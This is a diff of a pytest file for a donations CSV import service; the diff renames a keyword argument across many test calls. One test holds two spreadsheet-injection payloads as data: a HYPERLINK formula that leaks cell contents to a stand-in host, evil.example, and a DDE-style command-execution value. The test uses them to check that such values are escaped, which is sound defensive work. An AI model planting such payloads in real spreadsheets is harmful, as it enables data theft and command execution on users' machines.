@@ -23,7 +23,7 @@ def treasurer(db):
 
 def preview(data, user, layout="auto", **options):
     return services.donations_import_preview(
-        data=data, file_name="bank.csv", layout=layout, options=options, user=user
+        data=data, file_name="bank.csv", layout=layout, options=options, acting_user=user
     )
 
 
@@ -59,7 +59,7 @@ def test_generic_file_previews_then_imports(rates, treasurer, campaign):
     assert batch.layout == "generic"
     assert batch.summary["new"] == 3 and batch.summary["error"] == 0
     assert not Donation.objects.exists(), "a preview saves nothing"
-    counts = services.donations_import_apply(batch=batch, user=treasurer)
+    counts = services.donations_import_apply(batch=batch, acting_user=treasurer)
     assert counts["imported"] == 3
     entries = {d.transaction_id: d for d in Donation.objects.all()}
     assert entries["T-1"].donor.email == "a@example.org"
@@ -71,16 +71,16 @@ def test_generic_file_previews_then_imports(rates, treasurer, campaign):
 
 def test_importing_the_same_file_twice_adds_nothing(rates, treasurer):
     data = generic([row(1), row(2)])
-    services.donations_import_apply(batch=preview(data, treasurer), user=treasurer)
+    services.donations_import_apply(batch=preview(data, treasurer), acting_user=treasurer)
     again = preview(data, treasurer)
     assert again.summary["exists"] == 2 and again.summary["new"] == 0
-    counts = services.donations_import_apply(batch=again, user=treasurer)
+    counts = services.donations_import_apply(batch=again, acting_user=treasurer)
     assert counts["imported"] == 0
     assert Donation.objects.count() == 2
     # A longer export that overlaps the first adds only the new rows.
     longer = preview(generic([row(1), row(2), row(3)]), treasurer)
     assert longer.summary["new"] == 1
-    services.donations_import_apply(batch=longer, user=treasurer)
+    services.donations_import_apply(batch=longer, acting_user=treasurer)
     assert Donation.objects.count() == 3
 
 
@@ -89,13 +89,13 @@ def test_a_file_with_errors_imports_nothing_unless_asked_for_the_valid_rows(rate
     batch = preview(data, treasurer)
     assert batch.summary["error"] == 1 and batch.summary["new"] == 2
     with pytest.raises(ImportRefused):
-        services.donations_import_apply(batch=batch, user=treasurer)
+        services.donations_import_apply(batch=batch, acting_user=treasurer)
     assert not Donation.objects.exists()
-    counts = services.donations_import_apply(batch=batch, user=treasurer, valid_only=True)
+    counts = services.donations_import_apply(batch=batch, acting_user=treasurer, valid_only=True)
     assert counts["imported"] == 2
     assert sorted(Donation.objects.values_list("transaction_id", flat=True)) == ["T-1", "T-3"]
     with pytest.raises(ImportRefused):
-        services.donations_import_apply(batch=batch, user=treasurer)
+        services.donations_import_apply(batch=batch, acting_user=treasurer)
 
 
 def test_an_import_is_all_or_nothing(rates, treasurer, monkeypatch):
@@ -108,7 +108,7 @@ def test_an_import_is_all_or_nothing(rates, treasurer, monkeypatch):
 
     monkeypatch.setattr(Donation.objects, "bulk_create", fail_half_way)
     with pytest.raises(RuntimeError):
-        services.donations_import_apply(batch=batch, user=treasurer)
+        services.donations_import_apply(batch=batch, acting_user=treasurer)
     monkeypatch.undo()
     assert not Donation.objects.exists()
     batch.refresh_from_db()
@@ -120,7 +120,7 @@ def test_rates_are_checked_again_when_applying(rates, treasurer):
     assert batch.summary["new"] == 1
     ExchangeRate.objects.filter(quote="RUB").delete()
     with pytest.raises(ImportRefused):
-        services.donations_import_apply(batch=batch, user=treasurer)
+        services.donations_import_apply(batch=batch, acting_user=treasurer)
     assert not Donation.objects.exists()
 
 
@@ -175,7 +175,7 @@ def test_missing_columns_reject_the_whole_file(rates, treasurer):
     unknown = preview(b"foo,bar\n1,2\n", treasurer)
     assert [p["code"] for p in unknown.summary["file_problems"]] == ["unknown_layout"]
     with pytest.raises(ImportRefused):
-        services.donations_import_apply(batch=batch, user=treasurer)
+        services.donations_import_apply(batch=batch, acting_user=treasurer)
     empty = preview(b"", treasurer)
     assert [p["code"] for p in empty.summary["file_problems"]] == ["empty_file"]
 
@@ -189,7 +189,7 @@ def test_a_windows_1251_file_is_detected_and_read(rates, treasurer):
     batch = preview(data, treasurer)
     assert batch.encoding == "windows-1251"
     assert batch.summary["new"] == 1
-    services.donations_import_apply(batch=batch, user=treasurer)
+    services.donations_import_apply(batch=batch, acting_user=treasurer)
     donation = Donation.objects.get()
     assert donation.donor.name == "Иван Петров"
     assert donation.note == "Пожертвование на адвоката"
@@ -205,7 +205,7 @@ def test_problems_are_stored_as_codes_and_worded_when_shown():
 def test_a_formula_in_a_cell_is_kept_as_text_and_escaped_on_export(rates, treasurer):
     formula = '=HYPERLINK("http://evil.example/"&A1,"x")'
     batch = preview(generic([row(1, donor_name=formula, note="+cmd|' /C calc'!A0")]), treasurer)
-    services.donations_import_apply(batch=batch, user=treasurer)
+    services.donations_import_apply(batch=batch, acting_user=treasurer)
     assert Donor.objects.get().name == formula
     assert escape_cell(formula) == "'" + formula
     assert escape_cell("@SUM(A1)") == "'@SUM(A1)"
@@ -224,7 +224,7 @@ def test_refunds_in_the_generic_format(rates, treasurer):
     )
     batch = preview(data, treasurer)
     assert problems(batch) == {4: ["refund_too_large"]}
-    services.donations_import_apply(batch=batch, user=treasurer, valid_only=True)
+    services.donations_import_apply(batch=batch, acting_user=treasurer, valid_only=True)
     refund = Donation.objects.get(transaction_id="R-1")
     assert refund.kind == "refund" and refund.corrects.transaction_id == "T-2"
     assert refund.reporting_minor == -400
@@ -233,7 +233,7 @@ def test_refunds_in_the_generic_format(rates, treasurer):
 def test_a_default_campaign_is_given_to_rows_that_name_none(rates, treasurer, campaign):
     other = make_campaign(slug="parcels", currency="RUB")
     batch = preview(generic([row(1), row(2, campaign="parcels")]), treasurer, campaign="legal-aid")
-    services.donations_import_apply(batch=batch, user=treasurer)
+    services.donations_import_apply(batch=batch, acting_user=treasurer)
     assert Donation.objects.get(transaction_id="T-1").campaign == campaign
     assert Donation.objects.get(transaction_id="T-2").campaign == other
 
@@ -276,7 +276,7 @@ def test_stripe_payments_export(rates, treasurer, campaign):
     batch = preview(data, treasurer)
     assert batch.layout == "stripe"
     assert batch.summary == batch.summary | {"new": 3, "skipped": 2, "error": 0}
-    services.donations_import_apply(batch=batch, user=treasurer)
+    services.donations_import_apply(batch=batch, acting_user=treasurer)
     first = Donation.objects.get(transaction_id="ch_1")
     assert (first.amount_minor, first.currency, first.channel) == (2500, "EUR", "card_processor")
     assert first.fee_minor == 50 and first.campaign == campaign and first.processor == "stripe"
@@ -334,7 +334,7 @@ def test_paypal_activity_download(rates, treasurer, campaign):
     batch = preview(data, treasurer)
     assert batch.layout == "paypal"
     assert (batch.summary["new"], batch.summary["skipped"], batch.summary["error"]) == (3, 2, 0)
-    services.donations_import_apply(batch=batch, user=treasurer)
+    services.donations_import_apply(batch=batch, acting_user=treasurer)
     payment = Donation.objects.get(transaction_id="7P1")
     assert payment.amount_minor == 100000 and payment.received_on == DAY
     assert payment.campaign == campaign and payment.fee_minor == 59
@@ -355,11 +355,11 @@ def test_paypal_dates_that_read_both_ways_need_the_date_order(rates, treasurer):
     assert [p["code"] for p in batch.summary["file_problems"]] == ["date_ambiguous"]
     chosen = preview(paypal(rows), treasurer, date_order="mdy")
     assert chosen.summary["new"] == 2
-    services.donations_import_apply(batch=chosen, user=treasurer)
+    services.donations_import_apply(batch=chosen, acting_user=treasurer)
     assert Donation.objects.get(transaction_id="A2").received_on == dt.date(2025, 4, 3)
 
 
 def test_secret_marker_stays_in_the_back_office(rates, treasurer):
     batch = preview(generic([row(1, donor_name=SECRET)]), treasurer)
-    services.donations_import_apply(batch=batch, user=treasurer)
+    services.donations_import_apply(batch=batch, acting_user=treasurer)
     assert Donor.objects.filter(name=SECRET).exists()
